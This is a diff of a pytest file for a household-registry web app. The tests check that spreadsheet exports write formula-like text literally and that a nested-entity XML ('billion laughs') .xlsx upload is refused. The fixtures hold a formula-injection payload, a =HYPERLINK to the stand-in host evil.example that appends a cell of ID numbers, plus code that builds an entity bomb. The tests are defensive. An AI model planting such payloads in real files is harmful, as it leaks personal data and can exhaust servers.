@@ -600,29 +600,106 @@ def test_export_follows_the_list_filters(app, client, tree, ledger):
     assert "导出当前列表" in page and "显示完整身份证号" in page
 
 
-def test_exported_file_converts_with_libreoffice(app, client, ledger, tmp_path):
+def _soffice():
     soffice = shutil.which("soffice") or shutil.which("libreoffice")
     if soffice is None:
         if os.environ.get("CI") == "true":
             pytest.fail("soffice (Debian: libreoffice-calc-nogui) is not installed, and CI=true needs it")
         pytest.skip("soffice is not installed (Debian: apt-get install libreoffice-calc-nogui)")
-    client.login("leader")
-    client.get("/households/")
-    src = tmp_path / "ledger.xlsx"
-    src.write_bytes(_export(client).data)
+    return soffice
+
+
+def _libreoffice_rows(soffice, src):
+    """The rows of an .xlsx as LibreOffice Calc reads it (converted to CSV headless)."""
+    tmp_path = src.parent
     profile = tmp_path / "lo-profile"
     # csv with its filter options spelled out: comma, double quote, UTF-8 (76); plain "csv" writes
     # the locale's encoding, which is ASCII on a bare server. A profile of its own: runs can overlap.
     subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless",
                     "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(src)],
                    check=True, capture_output=True, timeout=300)
-    text = (tmp_path / "ledger.csv").read_text(encoding="utf-8")
-    rows = list(csv.reader(io.StringIO(text)))
+    text = src.with_suffix(".csv").read_text(encoding="utf-8")
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_exported_file_converts_with_libreoffice(app, client, ledger, tmp_path):
+    soffice = _soffice()
+    client.login("leader")
+    client.get("/households/")
+    src = tmp_path / "ledger.xlsx"
+    src.write_bytes(_export(client).data)
+    rows = _libreoffice_rows(soffice, src)
     assert rows[0][:5] == ["所属网格", "门牌地址", "户主身份证号", "姓名", "身份证号"]
     by_name = {r[3]: r for r in rows[1:]}
     assert set(by_name) == set(ledger)
     for name, number in ledger.items():
         assert by_name[name][4] == number[:6] + "********" + number[-4:]
+
+
+HOSTILE_CELLS = {"王建国": '=HYPERLINK("http://evil.example/?"&E2,"详情")', "李秀英": "=1+2", "王小明": "+1-1",
+                 "赵大海": "@SUM(1)", "赵小花": "-2+3"}
+
+
+def _plant_formulas(app):
+    """Names, an address and a category that a spreadsheet would evaluate, and a NUL byte in an address."""
+    from app.households.models import HouseholdCategory
+
+    with app.app_context():
+        for person in db.session.scalars(select(Resident)):
+            person.name = HOSTILE_CELLS.get(person.name, person.name)
+        households = db.session.scalars(select(Household).order_by(Household.id)).all()
+        households[0].address = "=2*3"
+        households[1].address = "东庄村\x002号"
+        category = db.session.scalars(select(HouseholdCategory).order_by(HouseholdCategory.id)).first()
+        category.name = "=3+4"
+        db.session.commit()
+        return {hh.id: hh.address for hh in households}
+
+
+def _hostile_export(client, tmp_path):
+    client.login("village_admin")
+    client.get("/households/")
+    resp = _export(client)
+    assert resp.status_code == 200 and resp.mimetype == XLSX
+    path = tmp_path / "ledger.xlsx"
+    path.write_bytes(resp.data)
+    return path
+
+
+def test_exported_text_is_never_a_formula(app, client, ledger, tmp_path):
+    _plant_formulas(app)
+    path = _hostile_export(client, tmp_path)
+    ws = load_workbook(path)["户籍名册"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert set(HOSTILE_CELLS.values()) <= values and {"=2*3", "东庄村2号"} <= values
+    assert any("=3+4" in v for v in values)
+    # The cell keeps its text when someone edits it in Excel (the quote prefix).
+    assert all(c.quotePrefix for c in cells if c.value in HOSTILE_CELLS.values())
+
+
+def test_exported_formula_text_shows_literally_in_libreoffice(app, client, ledger, tmp_path):
+    soffice = _soffice()
+    _plant_formulas(app)
+    rows = _libreoffice_rows(soffice, _hostile_export(client, tmp_path))
+    texts = {cell for row in rows for cell in row}
+    assert set(HOSTILE_CELLS.values()) <= texts and "=2*3" in texts
+    assert not {"3", "0", "1", "6", "7"} & texts  # nothing was evaluated
+    assert "evil.example" not in "".join(r[4] for r in rows[1:])
+
+
+def test_import_warns_about_formula_like_cells(app, tree, users):
+    rows = clean_roster()
+    rows[1][3] = "=1+2"  # as a CSV (or a text cell) keeps it; 0572-… and +86 … are no formulas
+    rows[2][6] = "+86 138 0013 8000"
+    text = io.StringIO()
+    csv.writer(text).writerows([[header for _, header, _ in roster_template.COLUMNS], *rows])
+    with app.app_context():
+        plan = roster_import.read_roster(text.getvalue().encode(), user("admin"), filename="名册.csv")
+        assert plan.errors == []
+        assert [(row, column) for row, column, message in plan.warnings if "公式" in message] == [(3, "姓名")]
+        assert "“=1+2”以“=”开头，电子表格会把它当作公式。已按文字导入" in plan.warnings[0][2]
 
 
 def test_web_preview_can_be_dropped(app, client, make_client, make_user, tree, users):
@@ -646,3 +723,81 @@ def test_web_preview_can_be_dropped(app, client, make_client, make_user, tree, u
         assert db.session.scalar(select(func.count(Household.id))) == 0
         row = db.session.scalar(select(AuditLog).where(AuditLog.action == "import_cancel"))
         assert row.actor_name == "village_admin" and "名册.xlsx" in row.summary
+
+
+def _entity_bomb():
+    """An .xlsx whose shared strings define nested entities (a billion laughs when expanded)."""
+    import zipfile
+
+    src = zipfile.ZipFile(io.BytesIO(roster(*clean_roster())))
+    out = io.BytesIO()
+    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
+        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
+    with zipfile.ZipFile(out, "w") as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                text = f"<!DOCTYPE worksheet [{entities}]>" + data.decode().replace("<is><t>", "<is><t>&i;", 1)
+                data = text.encode()
+            dst.writestr(item, data)
+    return out.getvalue()
+
+
+def test_entity_bomb_is_refused_in_chinese_and_not_kept(app, client, users):
+    import zipfile
+
+    from app.core.imports import PendingUpload
+
+    data = _entity_bomb()
+    assert b"<!ENTITY i" in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
+    with app.app_context(), pytest.raises(ServiceError, match="实体炸弹"):
+        read(data, "admin")
+    client.login("village_admin")
+    folder = Path(app.instance_path) / "imports"
+    kept = set(folder.glob("*.upload"))
+    resp = _upload(client, data)
+    assert resp.status_code == 200 and "实体炸弹" in resp.get_data(as_text=True)
+    assert set(folder.glob("*.upload")) == kept  # the refused file was never stored
+    with app.app_context():
+        assert db.session.scalar(select(func.count()).select_from(PendingUpload)) == 0
+
+
+def test_rows_past_the_configured_cap_are_refused(app, client, users, monkeypatch):
+    rows = clean_roster()
+    monkeypatch.setitem(app.config, "IMPORT_MAX_ROWS", 4)
+    with app.app_context():
+        assert read(roster(*rows[:4]), "admin").errors == []
+        with pytest.raises(ServiceError, match="超过了一次导入的上限（4 行数据）"):
+            read(roster(*rows), "admin")  # five rows under the header
+        with pytest.raises(ServiceError, match="超过了一次导入的上限（4 行数据）"):
+            read(roster(*rows, *[person("东庄一组", f"东庄村{n}号") for n in range(40)]), "admin")  # stops reading
+    client.login("village_admin")
+    resp = _upload(client, ("code,name\n" + "1,x\n" * 100).encode("gbk"), "名册.csv")
+    assert resp.status_code == 200 and "上限（4 行数据）" in resp.get_data(as_text=True)
+
+
+def test_divisions_cli_reads_gbk_and_refuses_other_bytes(app, tmp_path):
+    path = tmp_path / "divisions.csv"
+    path.write_bytes("code,name,level,parent_code\n330522000000,长兴县,county,\n330522101000,雉城街道,town,330522000000\n"
+                     .encode("gbk"))
+    result = app.test_cli_runner().invoke(args=["import-divisions", str(path)])
+    assert result.exit_code == 0 and result.exception is None, result.output
+    with app.app_context():
+        assert db.session.scalar(select(Grid.name).where(Grid.division_code == "330522101000")) == "雉城街道"
+    path.write_bytes(b"\xff\xfe\x00\x81\xfe" * 10)
+    result = app.test_cli_runner().invoke(args=["import-divisions", str(path)])
+    assert result.exit_code == 1 and "编码无法识别" in result.output and "Traceback" not in result.output
+    assert not isinstance(result.exception, UnicodeDecodeError)
+
+
+def test_report_workbooks_write_formula_like_names_as_text():
+    """The assessment's reports (core.sheets.report_workbook) go through the same safe writer."""
+    from app.core.sheets import report_workbook
+
+    wb = report_workbook("=考核", ["-周期"], ["名称", "总分"], [['=HYPERLINK("http://x")', 95.5], ["@甲村\x00", 80]],
+                         totals=["+合计", 175.5])
+    ws = load_workbook(io.BytesIO(_save(wb))).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = [c.value for c in cells]
+    assert '=HYPERLINK("http://x")' in values and "@甲村" in values and 95.5 in values and "+合计" in values
